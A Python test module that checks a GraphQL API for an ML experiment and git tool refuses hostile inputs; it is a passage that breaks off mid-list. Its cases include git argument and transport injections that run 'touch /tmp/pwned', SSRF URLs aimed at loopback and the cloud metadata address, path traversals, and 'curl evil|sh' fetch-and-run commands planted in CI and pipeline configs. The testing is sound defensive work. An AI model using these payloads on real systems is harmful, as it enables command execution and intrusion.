"""Hostile input to every GraphQL mutation: each case gets its typed error and changes no row
and no ref. The findings of issue 11 are here by name: repositories the API must not reach
(HIGH 1, MEDIUM connects, LOW /proc/self/cwd), writes outside params files (HIGH 2, LOW
``../x.yaml``), input that cannot be a URL (HIGH 3), branch names and write-input limits
(MEDIUM, LOW).
"""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import pytest
from corpus import (
    BAD_ID,
    BAD_INPUT,
    BAD_URL,
    INVALID,
    MISSING,
    NOT_FOUND,
    REFUSED_REPO,
    REFUSED_WRITE,
    SCOPE,
    TOO_LARGE,
    Gql,
    assert_unique_names,
    run_gql,
)
from harness import Hostile
from support import free_port

ERRORS = "errors { code message field }"
CREATE = f"""mutation($input: CreateProjectInput!) {{
  createProject(input: $input) {{ project {{ id }} {ERRORS} }} }}"""
SYNC = f"mutation($id: ID!) {{ syncProject(id: $id) {{ project {{ id }} {ERRORS} }} }}"
DELETE = f"mutation($id: ID!) {{ deleteProject(id: $id) {{ project {{ id }} {ERRORS} }} }}"
RUN = f"""mutation($input: RunExperimentInput!) {{
  runExperiment(input: $input) {{ commit {{ sha }} branch {ERRORS} }} }}"""
BRANCH_FROM = f"""mutation($input: CreateBranchFromExperimentInput!) {{
  createBranchFromExperiment(input: $input) {{ commit {{ sha }} branch {ERRORS} }} }}"""
REGISTRY_PAYLOAD = f"tag {ERRORS}"
REGISTER = f"""mutation($input: RegisterModelVersionInput!) {{
  registerModelVersion(input: $input) {{ {REGISTRY_PAYLOAD} }} }}"""
ASSIGN = f"mutation($input: StageInput!) {{ assignStage(input: $input) {{ {REGISTRY_PAYLOAD} }} }}"
UNASSIGN = f"""mutation($input: StageInput!) {{
  unassignStage(input: $input) {{ {REGISTRY_PAYLOAD} }} }}"""
DEREGISTER = f"""mutation($input: DeregisterModelVersionInput!) {{
  deregisterModelVersion(input: $input) {{ {REGISTRY_PAYLOAD} }} }}"""
DEPRECATE = f"""mutation($input: DeprecateModelInput!) {{
  deprecateModel(input: $input) {{ {REGISTRY_PAYLOAD} }} }}"""
TOKEN = f"""mutation($input: CreateAccessTokenInput!) {{
  createAccessToken(input: $input) {{ token {ERRORS} }} }}"""
REVOKE = f"mutation($id: ID!) {{ revokeAccessToken(id: $id) {{ {ERRORS} }} }}"
FORGE = f"""mutation($input: ConfigureForgeInput!) {{
  configureForge(input: $input) {{ forge {{ kind }} {ERRORS} }} }}"""
MERGE = f"""mutation($input: MergePullRequestInput!) {{
  mergePullRequest(input: $input) {{ pullRequest {{ id }} {ERRORS} }} }}"""
CLOSE = f"""mutation($input: ClosePullRequestInput!) {{
  closePullRequest(input: $input) {{ pullRequest {{ id }} {ERRORS} }} }}"""
DELETE_ROW = f"""mutation($input: DeleteExperimentInput!) {{
  deleteExperiment(input: $input) {{ deletedId {ERRORS} }} }}"""
HIDE = f"""mutation($input: HideRowsInput!) {{
  hideRows(input: $input) {{ branches {{ name }} {ERRORS} }} }}"""
IN_GIT = frozenset({"IN_GIT"})
REMOTE = f"""mutation($input: ConfigureRemoteInput!) {{
  configureRemote(input: $input) {{ remote {{ name keys }} {ERRORS} }} }}"""
GOAL = f"""mutation($input: SetColumnGoalInput!) {{
  setColumnGoal(input: $input) {{ columnGoal {{ column }} {ERRORS} }} }}"""

BIG = "x" * 500_000  # a 500 KB value
# Under the 1 MB body limit of POST /graphql, past any sensible field limit; TOO_LARGE if the
# body limit is the lower one.
HUGE = "m" * 900_000
LONG = "b" * 5_000  # a 5,000-character name


def _input(**fields: Any) -> Any:
    return lambda env: {"input": {k: v(env) if callable(v) else v for k, v in fields.items()}}


def alpha(env: Hostile) -> str:
    return env.projects["alpha"].id


def registry(env: Hostile) -> str:
    return env.projects["registry"].id


def mono(env: Hostile) -> str:
    return env.projects["mono"].id


# -- createProject: the repository access policy ---------------------------------------------


def _mirror(env: Hostile) -> Path:
    """Another project's mirror, inside the data directory."""
    return env.settings.mirrors_dir / f"{env.projects['alpha'].db_id}.git"


def _closed_port() -> int:
    return free_port()  # bound and released: nothing listens there now


REPO_URLS: list[tuple[str, Any, Any]] = [
    # (name, repoUrl or a function of the world, expected codes)
    ("path-outside-roots", lambda e: str(e.outside_root / "victim"), REFUSED_REPO),
    ("path-outside-roots-trailing-slash", lambda e: f"{e.outside_root / 'victim'}/", REFUSED_REPO),
    ("file-url-outside-roots", lambda e: f"file://{e.outside_root / 'victim'}", REFUSED_REPO),
    (
        "file-url-localhost-host",
        lambda e: f"file://localhost{e.outside_root / 'victim'}",
        REFUSED_REPO,
    ),
    (
        "dotdot-out-of-root",
        lambda e: f"{e.repos_root}/src/../../{e.outside_root.name}/victim",
        REFUSED_REPO,
    ),
    (
        "symlink-in-root-to-outside",
        lambda e: str(e.repos_root / "src" / "link-outside"),
        REFUSED_REPO,
    ),
    ("mirror-in-data-dir", lambda e: str(_mirror(e)), REFUSED_REPO),
    ("file-url-mirror-in-data-dir", lambda e: f"file://{_mirror(e)}", REFUSED_REPO),
    ("data-dir-itself", lambda e: str(e.settings.data_dir), REFUSED_REPO),
    ("mirrors-dir", lambda e: str(e.settings.mirrors_dir), REFUSED_REPO),
    (
        "subdirectory-of-repo-upward-search",
        lambda e: str(e.repos_root / "src" / "mono" / "proj"),
        REFUSED_REPO,
    ),
    (
        "subdirectory-deep-upward-search",
        lambda e: str(e.repos_root / "src" / "alpha" / "config"),
        REFUSED_REPO,
    ),
    ("git-dir-of-repo", lambda e: str(e.repos_root / "src" / "alpha" / ".git"), REFUSED_REPO),
    (
        "objects-dir-of-repo",
        lambda e: str(e.repos_root / "src" / "alpha" / ".git" / "objects"),
        REFUSED_REPO,
    ),
    (
        "file-not-dir",
        lambda e: str(e.repos_root / "src" / "alpha" / "params.yaml"),
        REFUSED_REPO | BAD_URL,
    ),
    (
        "plain-dir-in-root",
        lambda e: str(e.repos_root / "src" / "plain-dir"),
        REFUSED_REPO | MISSING,
    ),
    ("missing-dir-in-root", lambda e: str(e.repos_root / "src" / "nosuch"), REFUSED_REPO | MISSING),
    ("root-itself", lambda e: str(e.repos_root), REFUSED_REPO | MISSING),
    ("proc-self-cwd", "/proc/self/cwd", REFUSED_REPO),
    ("proc-self-cwd-dotdot", "/proc/self/cwd/..", REFUSED_REPO),
    (
        "proc-self-root-outside",
        lambda e: f"/proc/self/root{e.outside_root / 'victim'}",
        REFUSED_REPO,
    ),
    ("filesystem-root", "/", REFUSED_REPO),
    ("etc", "/etc", REFUSED_REPO),
    ("dev-zero", "/dev/zero", REFUSED_REPO | BAD_URL),
    ("relative-path", "src/alpha", REFUSED_REPO | BAD_URL),
    ("relative-dot", ".", REFUSED_REPO | BAD_URL),
    ("relative-dotdot", "..", REFUSED_REPO | BAD_URL),
    ("file-url-relative", "file:src/alpha", REFUSED_REPO | BAD_URL),
    ("nul-in-path", "/tmp/x\x00y", BAD_URL),
    ("nul-after-allowed-repo", lambda e: f"{e.repos_root / 'src' / 'alpha'}\x00", BAD_URL),
    ("nul-in-url", "https://example.com/a\x00b.git", BAD_URL),
    ("tilde-nosuchuser", "~nosuchuser/repo", BAD_URL | REFUSED_REPO),
    ("tilde-root", "~root/", BAD_URL | REFUSED_REPO),
    ("tilde-self", "~/repo", BAD_URL | REFUSED_REPO),
    ("empty", "", BAD_URL),
    ("blank", "   ", BAD_URL),
    ("newline-in-url", "https://example.com/x\n.git", BAD_URL),
    ("control-char-in-url", "https://example.com/\x1bx.git", BAD_URL),
    ("space-in-host", "https://exa mple.com/x.git", BAD_URL),
    ("no-host", "https:///x.git", BAD_URL),
    ("scheme-only", "https://", BAD_URL),
    ("100kb-url", "https://example.com/" + "a" * 100_000, BAD_URL),
    ("argument-injection-upload-pack", "--upload-pack=touch /tmp/pwned", BAD_URL | REFUSED_REPO),
    ("argument-injection-dash", "-uhelp", BAD_URL | REFUSED_REPO),
    ("ext-transport", "ext::sh -c touch% /tmp/pwned", BAD_URL | REFUSED_REPO),
    ("fd-transport", "fd::3", BAD_URL | REFUSED_REPO),
    ("ftp-scheme", "ftp://example.com/x.git", BAD_URL | REFUSED_REPO),
    ("javascript-scheme", "javascript:alert(1)", BAD_URL | REFUSED_REPO),
    ("data-scheme", "data:text/plain,x", BAD_URL | REFUSED_REPO),
    ("http-by-default-refused", "http://example.com/x.git", REFUSED_REPO),
    (
        "http-loopback-closed-port",
        lambda e: f"http://127.0.0.1:{_closed_port()}/x.git",
        REFUSED_REPO,
    ),
    ("https-loopback", "https://127.0.0.1/x.git", REFUSED_REPO),
    ("https-loopback-port", lambda e: f"https://127.0.0.1:{_closed_port()}/x.git", REFUSED_REPO),
    ("https-localhost", "https://localhost/x.git", REFUSED_REPO),
    ("https-localhost-trailing-dot", "https://localhost./x.git", REFUSED_REPO),
    ("https-ipv6-loopback", "https://[::1]/x.git", REFUSED_REPO),
    ("https-ipv4-mapped-loopback", "https://[::ffff:127.0.0.1]/x.git", REFUSED_REPO),
    ("https-loopback-decimal", "https://2130706433/x.git", REFUSED_REPO | BAD_URL),
    ("https-loopback-hex", "https://0x7f000001/x.git", REFUSED_REPO | BAD_URL),
    ("https-loopback-short", "https://127.1/x.git", REFUSED_REPO | BAD_URL),
    ("https-unspecified", "https://0.0.0.0/x.git", REFUSED_REPO),
    ("https-private-10", "https://10.0.0.1/x.git", REFUSED_REPO),
    ("https-private-192", "https://192.168.1.1/x.git", REFUSED_REPO),
    ("https-private-172", "https://172.16.0.1/x.git", REFUSED_REPO),
    ("https-link-local-metadata", "https://169.254.169.254/latest/meta-data", REFUSED_REPO),
    ("https-ipv6-link-local", "https://[fe80::1]/x.git", REFUSED_REPO),
    ("https-ipv6-unique-local", "https://[fd00::1]/x.git", REFUSED_REPO),
    ("https-credentials-loopback", "https://user:pass@127.0.0.1/x.git", REFUSED_REPO),
    ("git-loopback", lambda e: f"git://127.0.0.1:{_closed_port()}/x.git", REFUSED_REPO),
    ("git-localhost", "git://localhost/x.git", REFUSED_REPO),
    ("ssh-loopback", "ssh://127.0.0.1/x.git", REFUSED_REPO),
    ("ssh-loopback-port", lambda e: f"ssh://git@127.0.0.1:{_closed_port()}/x.git", REFUSED_REPO),
    ("scp-like-loopback", "git@127.0.0.1:org/repo.git", REFUSED_REPO),
    ("scp-like-localhost", "git@localhost:org/repo.git", REFUSED_REPO),
    # Hosts written so that two parsers may read them differently.
    ("userinfo-hides-loopback", "https://github.com@127.0.0.1/x.git", REFUSED_REPO | BAD_URL),
    ("two-at-signs", "https://a@b@127.0.0.1/x.git", REFUSED_REPO | BAD_URL),
    ("backslash-before-at", "https://127.0.0.1\\@example.com/x.git", REFUSED_REPO | BAD_URL),
    ("percent-encoded-host", "https://%31%32%37.0.0.1/x.git", REFUSED_REPO | BAD_URL),
    ("fullwidth-digits-host", "https://\uff11\uff12\uff17.0.0.1/x.git", REFUSED_REPO | BAD_URL),
    ("ipv6-zone-id", "https://[fe80::1%25eth0]/x.git", REFUSED_REPO | BAD_URL),
    ("uppercase-file-scheme", "FILE:///etc", REFUSED_REPO | BAD_URL),
    ("git-plus-ssh-loopback", "git+ssh://127.0.0.1/x.git", REFUSED_REPO | BAD_URL),
    ("ssh-option-injection", "ssh://-oProxyCommand=touch%20/tmp/pwned/x", REFUSED_REPO | BAD_URL),
    ("scp-option-injection", "-oProxyCommand=touch:repo", REFUSED_REPO | BAD_URL),
]

CREATE_CASES = [
    Gql(f"createProject-{name}", CREATE, _input(repoUrl=url, name=f"h-{name}"[:100]), codes)
    for name, url, codes in REPO_URLS
]


def allowed_repo(env: Hostile) -> str:
    """A repository the policy lets in (already a project): only other inputs are bad."""
    return str(env.repos_root / "src" / "alpha")


CREATE_CASES += [
    Gql(
        "createProject-subdir-dotdot",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-sub1", subdir="../x"),
        INVALID,
    ),
    Gql(
        "createProject-subdir-absolute",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-sub2", subdir="/etc"),
        INVALID,
    ),
    Gql(
        "createProject-subdir-nul",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-sub3", subdir="a\x00b"),
        INVALID,
    ),
    Gql(
        "createProject-subdir-5000",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-sub4", subdir=LONG),
        INVALID,
    ),
    Gql(
        "createProject-subdir-git-dir",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-sub5", subdir=".git"),
        INVALID | NOT_FOUND,
    ),
    Gql("createProject-name-nul", CREATE, _input(repoUrl=allowed_repo, name="a\x00b"), INVALID),
    Gql(
        "createProject-name-100kb",
        CREATE,
        _input(repoUrl=allowed_repo, name="n" * 100_000),
        INVALID,
    ),
    Gql(
        "createProject-name-duplicate",
        CREATE,
        _input(repoUrl=allowed_repo, name=lambda e: e.projects["alpha"].name),
        frozenset({"DUPLICATE"}),
    ),
    Gql(
        "createProject-default-branch-dash",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-db1", defaultBranch="-x"),
        INVALID,
    ),
    Gql(
        "createProject-default-branch-missing",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-db2", defaultBranch="nosuch"),
        MISSING,
    ),
    Gql(
        "createProject-default-branch-nul",
        CREATE,
        _input(repoUrl=allowed_repo, name="h-db3", defaultBranch="m\x00"),
        INVALID,
    ),
    Gql(
        "createProject-client-id-100kb",
        CREATE,
        _input(repoUrl=lambda e: str(e.outside_root / "victim"), clientMutationId="c" * 100_000),
        INVALID | REFUSED_REPO,
    ),
]

# -- runExperiment: the write policy ----------------------------------------------------------


_BRANCHES = itertools.count()


def _nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def _run(project: Any = alpha, **fields: Any) -> Any:
    """A runExperiment input; the new branch's name is unique to the call, so a case whose
    write went through cannot make the next one fail for another reason."""
    branch = f"h-branch-{next(_BRANCHES)}"
    base = {"projectId": project, "baseRev": "main", "target": "BRANCH", "branch": branch}
    base.update(fields)
    return _input(**base)


def _change(
    file: str = "params.yaml", path: str = "lr", value: Any = 0.5, **extra: Any
) -> list[dict[str, Any]]:
    return [{"file": file, "path": path, "value": value, **extra}]


WRITE_FILES = [
    ("dvc-yaml-cmd", "dvc.yaml", "stages.train.cmd", "curl evil|sh"),
    ("dvc-lock", "dvc.lock", "schema", "3.0"),
    ("github-workflow", ".github/workflows/ci.yml", "jobs.test.runs-on", "evil"),
    ("gitlab-ci", ".gitlab-ci.yml", "test.script", "curl evil|sh"),
    ("git-config", ".git/config", "core.hooksPath", "/tmp"),
    ("dvc-config", ".dvc/config", "core.remote", "evil"),
    ("metrics-file", "metrics.json", "acc", 1.0),
    ("dotdot-file", "../x.yaml", "a", 1),
    ("dotdot-inside-path", "config/../../x.yaml", "a", 1),
    ("absolute-file", "/etc/passwd.yaml", "a", 1),
    ("params-then-dotdot", "params.yaml/../dvc.yaml", "stages.train.cmd", "x"),
    ("nul-in-file", "params.yaml\x00", "lr", 1),
    ("backslash-file", "..\\x.yaml", "a", 1),
    ("dvcignore", ".dvcignore", "a", 1),
    ("gto-config", ".gto", "stages", ["x"]),
    ("new-file", "brand-new.yaml", "a", 1),
    ("empty-file-name", "", "lr", 1),
]

RUN_CASES = [
    Gql(
        f"runExperiment-file-{name}",
        RUN,
        _run(paramChanges=_change(file, path, value)),
        REFUSED_WRITE | NOT_FOUND,
    )
    for name, file, path, value in WRITE_FILES
]
RUN_CASES += [
    Gql(
        "runExperiment-subdir-dotdot-to-repo-root",
        RUN,
        _run(mono, paramChanges=_change("../shared.yaml", "lr", 2)),
        REFUSED_WRITE,
    ),
    Gql(
        "runExperiment-subdir-dotdot-dvc-yaml",
        RUN,
        _run(mono, paramChanges=_change("../proj/dvc.yaml", "stages.train.cmd", "x")),
        REFUSED_WRITE,
    ),
    Gql(
        "runExperiment-commit-target-dvc-yaml",
        RUN,
        _run(
            target="COMMIT", branch=None, paramChanges=_change("dvc.yaml", "stages.train.cmd", "x")
        ),
        REFUSED_WRITE,
    ),
    Gql(
        "runExperiment-key-not-there",
        RUN,
        _run(paramChanges=_change(path="nosuch.key")),
        REFUSED_WRITE | NOT_FOUND,
    ),
    Gql(
        "runExperiment-index-not-there",
        RUN,
        _run(paramChanges=_change(path="layers.99")),
        REFUSED_WRITE | NOT_FOUND,
    ),
    Gql(
        "runExperiment-index-huge",
        RUN,
        _run(paramChanges=_change(path="layers.99999999999999999999")),
        REFUSED_WRITE | NOT_FOUND,
    ),
    Gql(
        "runExperiment-path-5000-parts",
        RUN,
        _run(paramChanges=_change(path=".".join(["a"] * 5_000))),
        MISSING,
    ),
    Gql("runExperiment-path-100kb", RUN, _run(paramChanges=_change(path="p" * 100_000)), INVALID),
    Gql("runExperiment-path-empty", RUN, _run(paramChanges=_change(path="")), INVALID),
    Gql("runExperiment-path-dots", RUN, _run(paramChanges=_change(path="..")), INVALID),
    Gql("runExperiment-path-nul", RUN, _run(paramChanges=_change(path="l\x00r")), INVALID),
    Gql("runExperiment-value-500kb", RUN, _run(paramChanges=_change(value=BIG)), INVALID),
    Gql("runExperiment-value-nul", RUN, _run(paramChanges=_change(value="a\x00b")), INVALID),
    Gql(
        "runExperiment-value-deep",
        RUN,
        _run(paramChanges=_change(value=_nested(200))),
        INVALID | BAD_INPUT,
    ),
    Gql(
        "runExperiment-value-many-keys",
        RUN,
        _run(paramChanges=_change(value={f"k{i}": i for i in range(50_000)})),
        INVALID,
    ),
    Gql("runExperiment-no-changes", RUN, _run(paramChanges=[]), INVALID),
    Gql(
        "runExperiment-10000-missing-keys",
        RUN,
        _run(
            paramChanges=[
                {"file": "params.yaml", "path": f"k{i}", "value": i} for i in range(10_000)
            ]
        ),
        MISSING,
    ),
    Gql("runExperiment-message-nul", RUN, _run(paramChanges=_change(), message="a\x00b"), INVALID),
    Gql(
        "runExperiment-message-900kb",
        RUN,
        _run(paramChanges=_change(), message=HUGE),
        INVALID | TOO_LARGE,
    ),
    Gql(
        "runExperiment-base-rev-missing",
        RUN,
        _run(paramChanges=_change(), baseRev="nosuch"),
        MISSING,
    ),
    Gql(
        "runExperiment-base-rev-option", RUN, _run(paramChanges=_change(), baseRev="--all"), MISSING
    ),
    Gql(
        "runExperiment-base-rev-nul", RUN, _run(paramChanges=_change(), baseRev="main\x00"), MISSING
    ),
    Gql("runExperiment-base-rev-5000", RUN, _run(paramChanges=_change(), baseRev=LONG), MISSING),
    Gql(
        "runExperiment-base-rev-tree-path",
        RUN,
        _run(paramChanges=_change(), baseRev="main:params.yaml"),
        MISSING,
    ),
    Gql(
        "runExperiment-base-rev-reflog",
        RUN,
        _run(paramChanges=_change(), baseRev="main@{1}"),
        MISSING,
    ),
    Gql(
        "runExperiment-base-rev-ancestor-far",
        RUN,
        _run(paramChanges=_change(), baseRev="main~1000"),
        MISSING,
    ),
    Gql(
        "runExperiment-project-missing",
        RUN,
        _run(lambda e: "UHJvamVjdDo5OTk5OTk5", paramChanges=_change()),
        BAD_ID,
    ),
    Gql(
        "runExperiment-project-garbage",
        RUN,
        _run(lambda e: "not-an-id", paramChanges=_change()),
        BAD_ID,
    ),
    Gql(
        "runExperiment-project-wrong-type",
        RUN,
        _run(lambda e: e.experiment_id, paramChanges=_change()),
        BAD_ID,
    ),
    Gql(
        "runExperiment-pr-title-900kb",
        RUN,
        _run(target="PULL_REQUEST", paramChanges=_change(), title=HUGE),
        INVALID | TOO_LARGE,
    ),
    Gql(
        "runExperiment-pr-body-900kb",
        RUN,
        _run(target="PULL_REQUEST", paramChanges=_change(), body=HUGE),
        INVALID | TOO_LARGE,
    ),
    Gql(
        "runExperiment-pr-title-nul",
        RUN,
        _run(target="PULL_REQUEST", paramChanges=_change(), title="a\x00b"),
        INVALID,
    ),
    Gql(
        "runExperiment-client-id-100kb",
        RUN,
        _run(paramChanges=_change(), branch="-x", clientMutationId="c" * 100_000),
        INVALID,
    ),
]


BAD_BRANCHES = [
    ("leading-dash", "-x"),
    ("HEAD", "HEAD"),
    ("full-ref", "refs/heads/main"),
    ("refs-prefix", "refs/x"),
    ("tags-ref", "refs/tags/v1"),
    ("existing", "main"),
    ("5000-chars", LONG),
    ("201-bytes", "b" * 201),
    ("multibyte-over-200-bytes", "é" * 101),
    ("double-dot", "a..b"),
    ("space", "a b"),
    ("tilde", "a~1"),
    ("caret", "a^"),
    ("colon", "a:b"),
    ("question", "a?"),
    ("star", "a*"),
    ("bracket", "a[b"),
    ("backslash", "a\\b"),
    ("lock-suffix", "a.lock"),
    ("trailing-slash", "a/"),
    ("leading-slash", "/a"),
    ("double-slash", "a//b"),
    ("leading-dot", ".a"),
    ("component-leading-dot", "a/.b"),
    ("at-alone", "@"),
    ("at-brace", "a@{b"),
    ("trailing-dot", "a."),
    ("nul", "a\x00b"),
    ("newline", "a\nb"),
    ("del", "a\x7fb"),
    ("tab", "a\tb"),
    ("empty", ""),
    ("blank", " "),
]

BRANCH_CASES = [
    Gql(
        f"runExperiment-branch-{name}",
        RUN,
        _run(paramChanges=_change(), branch=branch),
        frozenset({"INVALID", "DUPLICATE", "CONFLICT"}) if name == "existing" else INVALID,
    )
    for name, branch in BAD_BRANCHES
]
BRANCH_CASES += [
    Gql(
        "runExperiment-commit-target-branch-dash",
        RUN,
        _run(
            target="COMMIT",
            baseRev=lambda e: e.projects["alpha"].main_sha,
            paramChanges=_change(),
            branch="-x",
        ),
        INVALID,
    ),
    Gql(
        "runExperiment-pr-branch-HEAD",
        RUN,
        _run(target="PULL_REQUEST", paramChanges=_change(), branch="HEAD"),
        INVALID,
    ),
]
BRANCH_CASES += [
    Gql(
        f"createBranchFromExperiment-branch-{name}",
        BRANCH_FROM,
        _input(experimentId=lambda e: e.experiment_id, branch=branch),
        frozenset({"INVALID", "DUPLICATE", "CONFLICT"}) if name == "existing" else INVALID,
    )
    for name, branch in BAD_BRANCHES
]
BRANCH_CASES += [
    Gql(
        "createBranchFromExperiment-experiment-garbage",
        BRANCH_FROM,
        _input(experimentId="garbage", branch="h-ok"),
        BAD_ID,
    ),
    Gql(
        "createBranchFromExperiment-experiment-missing",
        BRANCH_FROM,
        _input(experimentId="RXhwZXJpbWVudDo5OTk5OTk5", branch="h-ok"),
        BAD_ID,
    ),
    Gql(
        "createBranchFromExperiment-experiment-is-project",
        BRANCH_FROM,
        _input(experimentId=alpha, branch="h-ok"),
        BAD_ID,
    ),
    Gql(
        "createBranchFromExperiment-title-900kb",
        BRANCH_FROM,
        _input(
            experimentId=lambda e: e.experiment_id, branch="h-pr", openPullRequest=True, title=HUGE
        ),
        INVALID | TOO_LARGE,
    ),
    Gql(
        "createBranchFromExperiment-body-nul",
        BRANCH_FROM,
        _input(
            experimentId=lambda e: e.experiment_id,
            branch="h-pr2",
            openPullRequest=True,
            body="a\x00b",
        ),
        INVALID,
    ),
]

# -- the model registry -----------------------------------------------------------------------


def _reg(**fields: Any) -> Any:
    return _input(projectId=registry, **fields)


REGISTRY_CASES = [
    Gql("registerModelVersion-model-empty", REGISTER, _reg(model="", rev="main"), INVALID),
    Gql(
        "registerModelVersion-model-at-sign",
        REGISTER,
        _reg(model="model-0@v9.0.0", rev="main"),
        INVALID | NOT_FOUND,
    ),
    Gql(
        "registerModelVersion-model-hash",
        REGISTER,
        _reg(model="model-0#prod", rev="main"),
        INVALID | NOT_FOUND,
    ),
    Gql(
        "registerModelVersion-model-nul",
        REGISTER,
        _reg(model="model-0\x00", rev="main"),
        INVALID | NOT_FOUND,
    ),
    Gql(
        "registerModelVersion-model-5000",
        REGISTER,
        _reg(model=LONG, rev="main"),
        INVALID | NOT_FOUND,
    ),
    Gql(
        "registerModelVersion-model-dotdot",
        REGISTER,
        _reg(model="../model-0", rev="main"),
        INVALID | NOT_FOUND,
    ),
    Gql("registerModelVersion-rev-missing", REGISTER, _reg(model="model-0", rev="nosuch"), MISSING),
    Gql("registerModelVersion-rev-option", REGISTER, _reg(model="model-0", rev="--all"), MISSING),
    Gql("registerModelVersion-rev-nul", REGISTER, _reg(model="model-0", rev="main\x00"), MISSING),
    Gql(
        "registerModelVersion-version-not-semver",
        REGISTER,
        _reg(model="model-0", rev="main", version="latest"),
        INVALID,
    ),
    Gql(
        "registerModelVersion-version-no-v",
        REGISTER,
        _reg(model="model-0", rev="main", version="9.0.0"),
        INVALID,
    ),
    Gql(
        "registerModelVersion-version-existing",
        REGISTER,
        _reg(model="model-0", rev="main", version="v1.0.0"),
        frozenset({"DUPLICATE", "CONFLICT", "INVALID"}),
    ),
    Gql(
        "registerModelVersion-version-huge",
        REGISTER,
        _reg(model="model-0", rev="main", version="v" + "9" * 5_000 + ".0.0"),
        INVALID,
    ),
    Gql(
        "registerModelVersion-version-and-bump",
        REGISTER,
        _reg(model="model-0", rev="main", version="v9.0.0", bump="MAJOR"),
        INVALID,
    ),
    Gql(
        "registerModelVersion-version-nul",
        REGISTER,
        _reg(model="model-0", rev="main", version="v9.0.0\x00"),
        INVALID,
    ),
    Gql(
        "registerModelVersion-message-nul",
        REGISTER,
        _reg(model="model-0", rev="main", version="v9.0.0", message="a\x00b"),
        INVALID,
    ),
    Gql(
        "registerModelVersion-message-900kb",
        REGISTER,
        _reg(model="model-0", rev="main", version="v9.0.1", message=HUGE),
        INVALID | TOO_LARGE,
    ),
    Gql(
        "registerModelVersion-project-garbage",
        REGISTER,
        _input(projectId="garbage", model="model-0", rev="main"),
        BAD_ID,
    ),
    Gql(
        "registerModelVersion-project-missing",
        REGISTER,
        _input(projectId="UHJvamVjdDo5OTk5OTk5", model="model-0", rev="main"),
        BAD_ID,
    ),
    Gql(
        "assignStage-stage-not-allowed",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage="qa"),
        INVALID,
    ),
    Gql(
        "assignStage-stage-empty",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage=""),
        INVALID,
    ),
    Gql(
        "assignStage-stage-dash",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage="-x"),
        INVALID,
    ),
    Gql(
        "assignStage-stage-hash",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage="prod#1"),
        INVALID,
    ),
    Gql(
        "assignStage-stage-space",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage="a b"),
        INVALID,
    ),
    Gql(
        "assignStage-stage-nul",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage="prod\x00"),
        INVALID,
    ),
    Gql(
        "assignStage-stage-5000",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage=LONG),
        INVALID,
    ),
    Gql(
        "assignStage-version-missing",
        ASSIGN,
        _reg(model="model-0", version="v7.7.7", stage="prod"),
        MISSING,
    ),
    Gql(
        "assignStage-version-garbage",
        ASSIGN,
        _reg(model="model-0", version="nonsense", stage="prod"),
        INVALID | NOT_FOUND,
    ),
    Gql(
        "assignStage-model-missing",
        ASSIGN,
        _reg(model="nosuch", version="v1.0.0", stage="prod"),
        MISSING,
    ),
    Gql(
        "assignStage-message-nul",
        ASSIGN,
        _reg(model="model-0", version="v1.0.0", stage="dev", message="a\x00b"),
        INVALID,
    ),
    Gql(
        "unassignStage-stage-garbage",
        UNASSIGN,
        _reg(model="model-0", version="v1.0.0", stage="-x"),
        INVALID | NOT_FOUND,
    ),
    Gql(
        "unassignStage-model-missing",
        UNASSIGN,
        _reg(model="nosuch", version="v1.0.0", stage="prod"),
        MISSING,
    ),
    Gql(
        "deregisterModelVersion-version-missing",
        DEREGISTER,
        _reg(model="model-0", version="v7.7.7"),
        MISSING,
    ),
    Gql(
        "deregisterModelVersion-version-garbage",
        DEREGISTER,
        _reg(model="model-0", version="-x"),
        INVALID | NOT_FOUND,
    ),
    Gql(
        "deregisterModelVersion-model-missing",
        DEREGISTER,
        _reg(model="nosuch", version="v1.0.0"),
        MISSING,
    ),
    Gql(
        "deregisterModelVersion-message-900kb",
        DEREGISTER,
        _reg(model="model-0", version="v1.0.0", message=HUGE),
        INVALID | TOO_LARGE,
    ),
    Gql("deprecateModel-model-missing", DEPRECATE, _reg(model="nosuch"), MISSING),
    Gql("deprecateModel-model-nul", DEPRECATE, _reg(model="model-0\x00"), INVALID | NOT_FOUND),
    Gql("deprecateModel-message-nul", DEPRECATE, _reg(model="model-0", message="a\x00b"), INVALID),
    Gql(
        "deprecateModel-project-wrong-type",
        DEPRECATE,
        _input(projectId=lambda e: e.experiment_id, model="model-0"),
        BAD_ID,
    ),
]

# -- projects, tokens, forges, pull requests --------------------------------------------------

ID_GARBAGE = [
    ("garbage", "garbage"),
    ("empty", ""),
    ("missing", "UHJvamVjdDo5OTk5OTk5"),  # Project:9999999
    ("negative", "UHJvamVjdDotMQ=="),  # Project:-1
    ("huge", "UHJvamVjdDo5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5"),  # Project:9999...
    ("not-a-number", "UHJvamVjdDphYmM="),  # Project:abc
    ("unknown-type", "Rm9vOjE="),  # Foo:1
    ("nul", "UHJvamVjdDoxAA=="),  # Project:1\0
    ("100kb", "A" * 100_000),
]

OTHER_CASES = (
    [
        Gql(f"syncProject-id-{name}", SYNC, lambda e, v=value: {"id": v}, BAD_ID)
        for name, value in ID_GARBAGE
    ]
    + [
        Gql(f"deleteProject-id-{name}", DELETE, lambda e, v=value: {"id": v}, BAD_ID)
        for name, value in ID_GARBAGE
    ]
    + [
        Gql(f"revokeAccessToken-id-{name}", REVOKE, lambda e, v=value: {"id": v}, BAD_ID)
        for name, value in ID_GARBAGE
    ]
    + [
        Gql(f"mergePullRequest-id-{name}", MERGE, _input(pullRequestId=value), BAD_ID)
        for name, value in ID_GARBAGE
    ]
    + [
        Gql(f"closePullRequest-id-{name}", CLOSE, _input(pullRequestId=value), BAD_ID)
        for name, value in ID_GARBAGE
    ]
    + [
        Gql(f"deleteExperiment-id-{name}", DELETE_ROW, _input(id=value), BAD_ID)
